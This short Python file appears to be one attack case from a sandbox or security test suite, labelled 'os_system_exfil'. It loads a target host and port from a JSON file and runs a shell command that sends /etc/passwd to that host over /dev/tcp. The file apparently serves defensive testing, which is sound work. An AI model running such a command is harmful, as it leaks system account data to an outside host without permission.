# attack: os_system_exfil
# category: os_system
# kind: os_system
# describe: a shell pipeline that tries to send a file out
import json
T = json.load(open("target.json"))

import os
ip = T["host_ips"][-1]
os.system(f"cat /etc/passwd > /dev/tcp/{ip}/{T['tcp_port']} 2>/dev/null; bash -c 'cat /etc/passwd > /dev/tcp/{ip}/{T['tcp_port']}'")
